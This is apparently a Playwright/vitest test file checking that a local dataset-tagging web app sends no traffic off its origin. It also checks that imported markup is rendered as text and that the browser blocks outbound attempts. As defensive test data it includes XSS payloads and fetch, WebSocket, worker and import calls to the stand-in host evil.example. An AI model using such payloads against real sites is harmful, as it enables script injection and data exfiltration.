/** Nothing leaves the origin unless the user asks for it: every request of every page, worker and of the browser itself is recorded. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startProxy, type RecordingProxy } from '../support/proxy.ts';
import { appUrl, startStory, type Story } from '../support/story.ts';
import { alpacaFile, chatFile } from '../support/tiny-files.ts';
import { downloaded, details, goTo, importFiles, tagEverything, openRow } from '../support/user.ts';

const hostile = [
  '<img src="http://evil.example/pixel.png" onerror="fetch(\'http://evil.example/onerror\')">',
  '<script src="http://evil.example/script.js"></script>',
  '"><svg onload="location=\'http://evil.example/\'">',
  '[link](javascript:alert(1)) http://evil.example/plain',
].map((text) => ({ instruction: text, output: text, tags: [text] }));
const hostileFile = {
  name: '<b>hostile<b>.jsonl',
  content: hostile.map((row) => JSON.stringify(row)).join('\n'),
};

/** What a script that got into the page could try; the answer of each attempt. */
async function attempts(page: Page): Promise<Record<string, string>> {
  return page.evaluate(async () => {
    function settled(promise: Promise<unknown>): Promise<string> {
      return promise.then(
        () => 'reached',
        () => 'blocked',
      );
    }
    function loads(element: HTMLElement): Promise<string> {
      return new Promise((resolve) => {
        element.addEventListener('load', () => resolve('reached'));
        element.addEventListener('error', () => resolve('blocked'));
        document.body.append(element);
      });
    }
    function fromWorker(script: string): Promise<string> {
      const url = URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
      const worker = new Worker(url, { type: 'module' });
      return new Promise((resolve) => {
        worker.addEventListener('message', ({ data }: MessageEvent<string>) => resolve(data));
        worker.addEventListener('error', () => resolve('blocked'));
      });
    }
    function socket(): Promise<string> {
      return new Promise((resolve) => {
        try {
          const opened = new WebSocket('ws://evil.example/socket');
          opened.addEventListener('open', () => resolve('reached'));
          opened.addEventListener('error', () => resolve('blocked'));
        } catch {
          resolve('blocked');
        }
      });
    }
    // A blocked frame loads an error page and says so like any other: only the record can tell.
    await loads(Object.assign(document.createElement('iframe'), { src: 'http://evil.example/frame' }));
    const say = ".then(() => postMessage('reached'), () => postMessage('blocked'))";
    return {
      fetch: await settled(fetch('http://evil.example/fetch', { mode: 'no-cors' })),
      image: await loads(Object.assign(new Image(), { src: 'http://evil.example/image' })),
      script: await loads(Object.assign(document.createElement('script'), { src: 'http://evil.example/script' })),
      socket: await socket(),
      workerFetch: await fromWorker(`fetch('http://evil.example/worker', { mode: 'no-cors' })${say}`),
      workerImport: await fromWorker(`import('http://evil.example/module.js')${say}`),
      workerEval: await fromWorker("Promise.resolve().then(() => new Function('return 1')())" + say),
    };
  });
}

describe('what leaves the machine', () => {
  let proxy: RecordingProxy;
  let story: Story;
  beforeAll(async () => {
    proxy = await startProxy();
    story = await startStory({
      proxy: { server: proxy.server },
      allowed: /Content Security Policy|evil\.example|violates the following|ERR_BLOCKED_BY_CSP/i,
    });
  });
  afterAll(async () => {
    await story.end();
    await proxy.close();
  });

  function foreign(): string[] {
    return proxy.asked.filter((request) => !request.includes(` ${appUrl()}`));
  }

  it('is nothing, through the whole job', async () => {
    const { page } = story;
    await page.getByLabel('One instruction').fill('Write a poem');
    await page.getByRole('button', { name: 'Tag it' }).click();
    await importFiles(page, [alpacaFile, chatFile()]);
    await tagEverything(page);
    await goTo(page, 'Charts');
    await page.getByRole('region', { name: 'Overlap' }).waitFor();
    await goTo(page, 'Export');
    await downloaded(page, () =>
      page
        .getByRole('main')
        .getByRole('button', { name: /^Export/ })
        .click(),
    );
    expect(foreign()).toEqual([]);
  });

  it('was watched: the requests of workers are on the record too', () => {
    const asked = proxy.asked.join('\n');
    expect(asked).toMatch(/\/assets\/worker-[\w-]+\.js/);
    expect(asked).toMatch(/\.wasm/);
  });

  it('is nothing where a dataset holds markup and scripts: they are shown as text', async () => {
    const { page } = story;
    await goTo(page, 'Data');
    await importFiles(page, [hostileFile]);
    await openRow(page, '<img src=');
    await details(page).getByText('<img src="http://evil.example/pixel.png"').first().waitFor();
    await goTo(page, 'Charts');
    await page.getByRole('region', { name: 'Overlap' }).waitFor();
    expect(await page.locator('img, script[src*="evil"], svg[onload]').count()).toBe(0);
    expect(foreign()).toEqual([]);
  });

  it('is nothing even where a foreign script has got in: the browser blocks every way out', async () => {
    const answers = await attempts(story.page);
    expect(Object.entries(answers).filter(([, answer]) => answer !== 'blocked')).toEqual([]);
    expect(foreign()).toEqual([]);
  });
});
